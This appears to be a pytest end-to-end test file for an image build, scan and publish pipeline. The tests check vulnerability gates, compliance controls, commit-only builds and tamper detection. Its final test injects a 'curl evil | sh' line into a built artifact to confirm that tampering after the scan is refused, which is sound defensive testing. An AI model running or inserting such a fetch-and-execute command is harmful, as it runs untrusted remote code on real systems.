"""The image pipeline end to end: real Packer, real Trivy, the OSV matcher, the emulator's gallery
through the real SDK, and the real Prefect engine."""

from __future__ import annotations

import gzip
import io
import json
import os
import subprocess
import sys
import tarfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from azure.core.exceptions import ResourceNotFoundError
from prefect import flow, tags
from prefect.client.orchestration import get_client
from prefect.client.schemas.filters import FlowRunFilter, FlowRunFilterId

from blocks import load_scan_policy
from flows.image_pipeline import image_pipeline
from switchyard.core.config import FaultProfile
from switchyard.core.fleet import Fleet
from switchyard.core.image_metadata import ImageMetadata
from switchyard.core.outcomes import GateFailed
from switchyard.core.versions import ImageVersion, VersionError
from switchyard.images.packer import LOCAL_TEMPLATE
from switchyard.images.packer_output import PackerTemplateError
from switchyard.images.scan import ArtifactChanged
from switchyard.images.source import AppSourceError
from switchyard_emulator.testing import EmulatorHandle
from tasks.history import change_tags
from tasks.images import (
    app_source,
    build_image,
    gate,
    publish,
    resolve_version,
    scan_image,
    validate_inputs,
    verify_artifact,
)
from tasks.provision import load_service_context
from tests.e2e.repo_commits import labelled_commit
from tests.integration.cloud.cloud_support import eventually

pytestmark = pytest.mark.e2e

GALLERY_GROUP = "switchyard-images"
GALLERY = "switchyard_gallery"
COMMIT = labelled_commit("image-pipeline")


def gallery_versions(emulator: EmulatorHandle, service: str) -> list[str]:
    clients = emulator.clients()
    try:
        return sorted(
            v.name
            for v in clients.compute.gallery_image_versions.list_by_gallery_image(GALLERY_GROUP, GALLERY, service)
        )
    except ResourceNotFoundError:
        return []
    finally:
        clients.close()


def test_the_sample_app_is_built_scanned_and_published_with_its_history(fleet: Fleet, emulator: EmulatorHandle) -> None:
    published = image_pipeline(service="sample", app_version="1.0.0", git_commit=COMMIT)

    assert not published.reused
    version = ImageVersion.from_gallery_version(published.gallery_version)
    assert (str(version.base), str(version.app_version)) == ("debian-12", "1.0.0")
    clients = emulator.clients()
    try:
        stored = clients.compute.gallery_image_versions.get(
            GALLERY_GROUP, GALLERY, "sample", published.gallery_version, expand="ReplicationStatus"
        )
    finally:
        clients.close()
    body = stored.as_dict()
    # Excluded from "latest" until a release has held full traffic; replicated everywhere.
    assert body["properties"]["publishingProfile"]["excludeFromLatest"] is True
    regions = {
        s["region"].replace(" ", "").lower(): s["state"] for s in body["properties"]["replicationStatus"]["summary"]
    }
    assert regions == {"westeurope": "Completed"}
    metadata = ImageMetadata.from_tags(body["tags"])
    assert metadata.git_commit == COMMIT and metadata.scan_gate_passed and not metadata.rolled_back
    assert metadata.scan_summary_text() == "vuln C0 H0 M0 L0 U0 | misconfig C0 H0 M0 L0 U0 | secret C0 H0 M0 L0 U0"
    assert len(metadata.sbom_sha256) == 64
    # Published from a page blob of the environment's storage account, as Azure requires; never a path.
    source = body["properties"]["storageProfile"]["osDiskImage"]["source"]
    assert source["uri"].startswith("https://") and source["uri"].endswith(".vhd")
    assert source["storageAccountId"].endswith(
        f"/providers/Microsoft.Storage/storageAccounts/{emulator.storage_account}"
    )
    assert published.source is not None
    assert (published.source.uri, published.source.storage_account_id) == (source["uri"], source["storageAccountId"])


def test_the_same_inputs_reuse_the_published_version_and_force_rebuilds_a_new_revision(fleet: Fleet) -> None:
    first = image_pipeline(service="sample", app_version="1.1.0", git_commit=COMMIT)
    again = image_pipeline(service="sample", app_version="1.1.0", git_commit=COMMIT)
    forced = image_pipeline(service="sample", app_version="1.1.0", git_commit=COMMIT, force=True)

    assert again.reused and again.gallery_version == first.gallery_version
    assert again.source == first.source and first.source is not None  # the reused version's own blob
    assert not forced.reused
    first_level = ImageVersion.from_gallery_version(first.gallery_version).patch_level
    forced_level = ImageVersion.from_gallery_version(forced.gallery_version).patch_level
    assert forced_level.same_month(first_level) and forced_level.revision == first_level.revision + 1


def test_a_dependency_with_a_critical_advisory_is_stopped_at_the_gate_and_named(
    fleet: Fleet, emulator: EmulatorHandle
) -> None:
    with pytest.raises(GateFailed) as failure:
        image_pipeline(service="vulnerable", app_version="1.0.0", git_commit=COMMIT, scan_policy="critical-only")

    message = str(failure.value)
    assert "SWITCHYARD-TEST-2026-0001" in message and "switchyard-fixture-critical 1.0.0" in message
    assert "CRITICAL" in message
    assert gallery_versions(emulator, "vulnerable") == []


def test_an_allowlist_entry_that_expired_does_not_let_the_finding_through(
    fleet: Fleet, emulator: EmulatorHandle
) -> None:
    with pytest.raises(GateFailed, match="SWITCHYARD-TEST-2026-0001"):
        image_pipeline(service="vulnerable", app_version="1.0.1", git_commit=COMMIT, scan_policy="allow-expired")
    assert gallery_versions(emulator, "vulnerable") == []

    # The same entry, still valid, lets it through: it is the expiry that stopped it.
    published = image_pipeline(service="vulnerable", app_version="1.0.2", git_commit=COMMIT, scan_policy="allow-valid")
    assert gallery_versions(emulator, "vulnerable") == [published.gallery_version]


def test_the_change_is_tagged_on_the_pipeline_run_and_kept_off_its_task_runs(fleet: Fleet) -> None:
    # The history reads a change from flow runs. A task run with tags takes and gives back a slot of
    # each tag's concurrency limit, two calls to the server per task: not for a change's tags. A
    # person's own tags (and their limits) still reach every task run.
    change = change_tags(commit=COMMIT, change_at=datetime.now(UTC), trigger="merge")
    with tags(*change, "team-payments"):
        state = image_pipeline(service="sample", app_version="1.0.0", git_commit=COMMIT, return_state=True)

    assert state.is_completed(), state.message
    run_id = state.state_details.flow_run_id
    assert run_id is not None
    with get_client(sync_client=True) as client:
        run = client.read_flow_run(run_id)
        # Task runs reach Prefect's database through its events, a moment after the run ends.
        this_run = FlowRunFilter(id=FlowRunFilterId(any_=[run_id]))
        task_runs = eventually(lambda: client.read_task_runs(flow_run_filter=this_run))
    assert {*change, "team-payments"} <= set(run.tags)
    for task_run in task_runs:
        assert "team-payments" in task_run.tags and not set(task_run.tags) & set(change), task_run.tags


def test_unknown_base_and_malformed_versions_fail_before_anything_runs(fleet: Fleet, emulator: EmulatorHandle) -> None:
    with pytest.raises(VersionError, match="unknown base"):
        image_pipeline(service="cart", app_version="1.0.0", base="windows-95", git_commit=COMMIT)
    with pytest.raises(VersionError, match=r"1\.2"):
        image_pipeline(service="cart", app_version="1.2", git_commit=COMMIT)
    with pytest.raises(ValueError, match="unknown service 'nosuch'"):
        image_pipeline(service="nosuch", app_version="1.0.0", git_commit=COMMIT)
    assert gallery_versions(emulator, "cart") == []


def test_a_template_packer_rejects_fails_with_packers_message_and_publishes_nothing(
    fleet: Fleet, emulator: EmulatorHandle
) -> None:
    with pytest.raises(PackerTemplateError) as failure:
        image_pipeline(service="broken", app_version="1.0.0", git_commit=COMMIT)
    assert "bogus_field" in str(failure.value) or "bogus_field" in " ".join(failure.value.packer_errors)
    assert gallery_versions(emulator, "broken") == []


def test_the_cli_prints_what_it_published_as_json(fleet: Fleet, prefect_api: str, repo_root: Path) -> None:
    env = {**os.environ, "PREFECT_API_URL": prefect_api}
    result = subprocess.run(
        [sys.executable, "-m", "switchyard.cli", "image", "build", "sample", "--app-version", "1.2.0",
         "--git-commit", COMMIT, "--json"],
        cwd=repo_root, env=env, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr[-2000:]
    payload = json.loads(result.stdout.strip().splitlines()[-1])
    assert payload["app_version"] == "1.2.0" and payload["reused"] is False
    assert payload["scan"]["vulnerability"] == {"CRITICAL": 0, "HIGH": 0, "MEDIUM": 0, "LOW": 0, "UNKNOWN": 0}
    # the blob the version was made from and its storage account
    assert payload["source"]["uri"].startswith("https://") and "/switchyard-images/sample/" in payload["source"]["uri"]
    assert "/providers/Microsoft.Storage/storageAccounts/" in payload["source"]["storage_account_id"]
    # what was gated: the digest scanned (and verified before publishing), the hardening controls, the patches
    assert len(payload["artifact_sha256"]) == 64
    assert payload["compliance"]["fail"] == 0 and payload["compliance"]["pass"] + payload["compliance"]["fixed"] >= 6
    assert payload["patches"]["changes"] == [] and "no package manager" in payload["patches"]["reason"]
    ImageVersion.from_gallery_version(payload["gallery_version"])


def test_the_cli_exits_non_zero_and_names_the_findings_when_the_gate_fails(
    fleet: Fleet, prefect_api: str, repo_root: Path
) -> None:
    env = {**os.environ, "PREFECT_API_URL": prefect_api}
    result = subprocess.run(
        [sys.executable, "-m", "switchyard.cli", "image", "build", "vulnerable", "--app-version", "2.0.0",
         "--git-commit", COMMIT],
        cwd=repo_root, env=env, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert result.returncode == 3  # refused before any change: nothing was published
    assert "refused, nothing was changed" in result.stderr
    assert "PYSEC-2018-28" in result.stderr  # requests 2.19.1, unknown severity counts as HIGH by default


def git(repository: Path, *args: str) -> str:
    identity = ["-c", "user.name=switchyard tests", "-c", "user.email=tests@switchyard.invalid"]
    command = ["git", "-C", str(repository), *identity, *args]
    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=30).stdout.strip()


def artifact_of(state_dir: Path, service: str, gallery_version: str) -> Path:
    (artifact,) = (state_dir / "builds" / service).glob(f"*/{service}-{gallery_version}.tar.gz")
    return artifact


def member(artifact: Path, name: str) -> bytes:
    with tarfile.open(artifact, "r:gz") as archive:
        stream = archive.extractfile(name)
        assert stream is not None
        return stream.read()


def test_a_build_ships_the_commit_not_the_uncommitted_changes_beside_it(fleet: Fleet, state_dir: Path) -> None:
    app = Path(fleet.services["workdir"].app_dir)
    repository = app.parents[1]
    server = app / "app" / "server.py"
    committed_server = server.read_bytes()
    committed = git(repository, "rev-parse", "HEAD")
    server.write_bytes(committed_server + b"\nraise SystemExit('an uncommitted edit must never ship')\n")
    (app / "app" / "debug_backdoor.py").write_text("OPEN = True\n")  # untracked
    try:
        published = image_pipeline(service="workdir", app_version="1.0.0")  # no commit: HEAD
    finally:
        git(repository, "checkout", "--", ".")
        (app / "app" / "debug_backdoor.py").unlink()

    assert published.git_commit == committed
    artifact = artifact_of(state_dir, "workdir", published.gallery_version)
    assert member(artifact, "app/server.py") == committed_server
    with tarfile.open(artifact, "r:gz") as archive:
        assert "app/debug_backdoor.py" not in archive.getnames()
    assert json.loads(member(artifact, "manifest.json"))["git_commit"] == committed


def test_a_commit_that_does_not_exist_is_refused_before_anything_is_built(
    fleet: Fleet, emulator: EmulatorHandle, state_dir: Path
) -> None:
    missing = "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"
    with pytest.raises(AppSourceError, match=f"commit {missing} does not exist"):
        image_pipeline(service="workdir", app_version="9.0.0", git_commit=missing)
    assert not any((state_dir / "builds" / "workdir").glob("9*"))


def test_a_failed_required_compliance_control_never_reaches_the_gallery(fleet: Fleet, emulator: EmulatorHandle) -> None:
    # cloud-init's PasswordAuthentication yes, baked in on purpose: hardening reports SWY-SSH-2 failed.
    with pytest.raises(GateFailed) as failure:
        image_pipeline(
            service="hardened",
            app_version="1.0.0",
            git_commit=COMMIT,
            fault_profile=FaultProfile(ssh_password_auth=True),
        )
    message = str(failure.value)
    assert "control SWY-SSH-2 (SSH password authentication is disabled)" in message
    assert "50-cloud-init.conf" in message
    assert gallery_versions(emulator, "hardened") == []

    # The same app without the fault passes the same gate: it is the control that stopped it.
    published = image_pipeline(service="hardened", app_version="1.0.1", git_commit=COMMIT)
    assert gallery_versions(emulator, "hardened") == [published.gallery_version]


def replace_member(artifact: Path, name: str, content: bytes) -> None:
    """What an attacker with the worker's disk would do: swap one file inside the image."""
    members: list[tuple[tarfile.TarInfo, bytes | None]] = []
    with tarfile.open(artifact, "r:gz") as archive:
        for info in archive:
            stream = archive.extractfile(info) if info.isfile() else None
            members.append((info, stream.read() if stream is not None else None))
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for info, data in members:
            if info.name == name and data is not None:
                data = content
                info.size = len(content)
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    artifact.write_bytes(gzip.compress(buffer.getvalue(), mtime=0))


def test_an_artifact_changed_between_scan_and_publish_is_refused(fleet: Fleet, emulator: EmulatorHandle) -> None:
    @flow
    def build_then_tamper() -> None:
        """The pipeline's tasks in its order, with the artifact changed after the gate."""
        context = load_service_context("tampered", "staging")
        scanning = load_scan_policy("default")
        source = app_source(context, COMMIT)
        plan = resolve_version(context, "1.0.0", "debian-12", source.commit, FaultProfile(), False)
        validate_inputs(context, plan, LOCAL_TEMPLATE, source)
        image = build_image(context, plan, LOCAL_TEMPLATE, 300.0, source)
        scan = scan_image(image, scanning)
        result = gate(plan, scan, scanning, None)
        assert result.passed, result.to_markdown()
        replace_member(image.scanned_path, "app/server.py", b"import os\nos.system('curl evil | sh')\n")
        verify_artifact(context, image, scan)
        publish(context, plan, image, scan, result)  # never reached

    with pytest.raises(ArtifactChanged, match=r"changed after it was scanned: sha256 [0-9a-f]{64} now"):
        build_then_tamper()
    assert gallery_versions(emulator, "tampered") == []
